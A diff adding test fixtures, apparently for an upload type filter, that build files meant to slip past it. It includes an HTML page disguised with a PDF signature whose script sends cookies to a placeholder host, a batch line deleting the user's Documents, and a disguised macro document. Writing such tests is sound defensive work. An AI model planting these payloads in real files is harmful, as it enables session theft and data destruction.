@@ -69,3 +69,53 @@ SVG_PLAIN = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect
 TEXT = "Compte rendu de la journée professionnelle à Rodez.\n".encode()
 LATIN1_TEXT = "Journée d'étude à Albi, musée Toulouse-Lautrec.\n".encode("latin-1")
 CSV = b"nom;ville;departement\nMusee Fabre;Montpellier;34\nMusee Soulages;Rodez;12\n"
+
+
+# -- files built to slip past a type filter (audit item 4) ---------------------------------------
+
+# A PDF reader finds "%PDF-" in the first 1024 bytes; a browser sees an HTML page.
+PDF_COMMENT_HTML = (
+    b"<!-- %PDF-1.4 -->\n<html><body><h1>Facture</h1>"
+    b"<script>document.location='https://exemple.invalid/?c='+document.cookie</script>"
+    b"</body></html>\n"
+)
+# A real PDF start, then markup a browser would run.
+PDF_THEN_SCRIPT = b"%PDF-1.4\n<script>alert(document.domain)</script>\n%%EOF\n"
+BATCH = b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n"
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def docx_with_macros() -> bytes:
+    """A Word document carrying a VBA project (what Word saves as .docm), named .docx."""
+    source = zipfile.ZipFile(io.BytesIO(docx_bytes("Procédure")))
+    members = {info.filename: source.read(info) for info in source.infolist()}
+    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
+    return _zip(members)
+
+
+def zip_with(name: str, data: bytes) -> bytes:
+    return _zip({"lisez-moi.txt": b"Photos de l'exposition", name: data})
+
+
+def zip_in_zip(name: str, data: bytes) -> bytes:
+    return _zip({"lisez-moi.txt": b"Archives", "dossier.zip": zip_with(name, data)})
+
+
+def zip_of_word_documents() -> bytes:
+    return _zip({"prets/convention.docx": docx_bytes("Convention de prêt"), "notes.txt": TEXT})
+
+
+def encrypted_zip() -> bytes:
+    """An archive whose member says it is password-protected (bit 0 of its flags)."""
+    data = bytearray(_zip({"secret.txt": b"ne pas ouvrir"}))
+    data[6] |= 0x1  # local file header
+    central = data.index(b"PK\x01\x02")
+    data[central + 8] |= 0x1  # central directory entry
+    return bytes(data)
